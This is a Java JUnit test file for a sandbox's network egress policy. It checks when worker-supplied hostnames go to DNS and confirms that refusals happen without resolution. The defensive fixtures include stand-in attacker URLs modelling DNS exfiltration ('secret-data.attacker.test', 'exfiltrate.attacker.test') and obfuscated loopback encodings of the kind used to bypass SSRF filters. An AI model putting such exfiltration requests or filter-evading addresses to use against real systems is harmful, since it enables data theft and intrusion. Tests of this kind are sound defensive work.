package dev.capmesh.runner.services;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.capmesh.runner.egress.EgressRefusedException;
import dev.capmesh.runner.egress.IpAddresses;
import dev.capmesh.runner.egress.LoopbackOnlyConnector;
import dev.capmesh.runner.egress.NetworkPolicy;
import dev.capmesh.runner.egress.RecordingResolver;
import dev.capmesh.runner.http.HttpServer;
import dev.capmesh.runner.http.NettyTransport;
import dev.capmesh.runner.service.BodyStreams;
import dev.capmesh.runner.service.ServiceRequest;
import dev.capmesh.runner.service.ServiceResponse;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * When names a worker supplies are sent to DNS: never when the policy allows no address at all,
 * never for IP literals, never by an external service (whose address comes from the config).
 */
class NetworkServiceDnsTest {
  private NettyTransport transport;
  private LoopbackOnlyConnector connector;
  private HttpServer backend;
  private int port;
  private RecordingResolver resolver;

  private static InetAddress addr(String text) {
    return IpAddresses.fromBytes(IpAddresses.parseDottedQuad(text));
  }

  @BeforeEach void start() {
    transport = NettyTransport.create(1, "test-dns");
    connector = new LoopbackOnlyConnector(transport);
    resolver = new RecordingResolver(Map.of("example.test", List.of(addr("127.0.0.1"))));
    backend = HttpServer.builder().transport(transport).bind(new InetSocketAddress("127.0.0.1", 0))
        .service(request -> CompletableFuture.completedFuture(ServiceResponse.text(200, "ok")))
        .build();
    port = backend.start().getPort();
  }

  @AfterEach void stop() {
    backend.close();
    transport.close();
    assertThat(connector.violations()).as("connections outside loopback").isEmpty();
    assertThat(resolver.unknown()).as("names the test did not map").isEmpty();
  }

  private NetworkService network(String allow, String deny) {
    return new NetworkService("net", NetworkPolicy.of(list(allow), list(deny)), resolver, connector);
  }

  private static List<String> list(String s) {
    return s == null || s.isBlank() ? List.of() : Arrays.asList(s.trim().split(" +"));
  }

  private static ServiceRequest get(String url) {
    return new ServiceRequest("GET", url, List.of(), BodyStreams.empty(), "test-id");
  }

  @ParameterizedTest(name = "allow=[{0}] deny=[{1}]")
  @CsvSource(delimiter = '|', textBlock = """
      |
      unix |
      10.0.0.0/8 | 10.0.0.0/8
      local | local
      private | private local
      224.0.0.0/4 |
      127.0.0.0/8 | 127.0.0.0/9 127.128.0.0/9
      ::1/128 | ::1/128
      """)
  void aNameIsNotResolvedWhenNoAddressCanPass(String allow, String deny) {
    var service = network(allow, deny);
    assertThatThrownBy(() -> service.fetch(get("http://example.test:" + port + "/"))
        .toCompletableFuture().get(5, TimeUnit.SECONDS))
        .isInstanceOf(ExecutionException.class)
        .cause().isInstanceOf(EgressRefusedException.class)
        .hasMessageStartingWith("network \"net\" refused example.test: no address can pass its rules")
        .hasMessageEndingWith("so the name was not resolved");
    // A name that could exfiltrate data through a DNS query is refused the same way.
    assertThatThrownBy(() -> service.fetch(get("http://secret-data.attacker.test/"))
        .toCompletableFuture().get(5, TimeUnit.SECONDS))
        .cause().isInstanceOf(EgressRefusedException.class);
    assertThat(resolver.asked()).isEmpty();
    assertThat(connector.asked()).isEmpty();
  }

  @Test void theRefusalNamesTheRules() {
    var service = network("10.0.0.0/8", "10.0.0.0/8");
    assertThatThrownBy(() -> service.fetch(get("http://example.test/")).toCompletableFuture().join())
        .cause().hasMessage("network \"net\" refused example.test: no address can pass its rules "
            + "(allow = [\"10.0.0.0/8\"], deny = [\"10.0.0.0/8\"]), so the name was not resolved");
  }

  @Test void aNameIsResolvedWhenSomeAddressCouldPass() throws Exception {
    // "local" allows 127.0.0.1, which a name may resolve to: it must be resolved to decide.
    var response = network("local", "").fetch(get("http://example.test:" + port + "/"))
        .toCompletableFuture().get(5, TimeUnit.SECONDS);
    assertThat(response.status()).isEqualTo(200);
    // Only the upper half of 127/8 passes; example.test resolves into the lower half.
    assertThatThrownBy(() -> network("127.0.0.0/8", "127.0.0.0/9").fetch(get("http://example.test:" + port + "/"))
        .toCompletableFuture().get(5, TimeUnit.SECONDS))
        .cause().isInstanceOf(EgressRefusedException.class)
        .hasMessageContaining("refused example.test (127.0.0.1): matches deny \"127.0.0.0/9\"");
    assertThat(resolver.asked()).containsExactly("example.test", "example.test");
    assertThat(connector.asked()).hasSize(1);
  }

  @ParameterizedTest
  @ValueSource(strings = {"http://127.0.0.1:%d/", "http://[::1]:%d/", "http://2130706433:%d/",
      "http://0x7f.1:%d/", "http://0177.0.0.1:%d/", "http://[::ffff:127.0.0.1]:%d/",
      "http://localhost:%d/", "http://a.b.localhost:%d/", "http://%%31%%32%%37.0.0.1:%d/",
      "http://10.0.0.1:%d/", "http://[fe80::1]:%d/"})
  void ipLiteralsAndLocalhostNeverReachTheResolver(String pattern) {
    String url = String.format(pattern, port);
    for (String[] rules : new String[][] {{"local", ""}, {"", ""}, {"public", ""}}) {
      try {
        network(rules[0], rules[1]).fetch(get(url)).toCompletableFuture().get(5, TimeUnit.SECONDS);
      } catch (Exception expectedForSomeRules) {
        // refused or not: either way, without DNS
      }
    }
    assertThat(resolver.asked()).as("names resolved for %s", url).isEmpty();
  }

  @Test void anExternalServiceNeverResolvesTheNameInTheWorkersUrl() throws Exception {
    var external = new ExternalService("backend", "127.0.0.1:" + port, resolver, connector);
    ServiceResponse response = external.fetch(get("http://exfiltrate.attacker.test/x"))
        .toCompletableFuture().get(5, TimeUnit.SECONDS);
    assertThat(response.status()).isEqualTo(200);
    assertThat(resolver.asked()).isEmpty();
  }
}
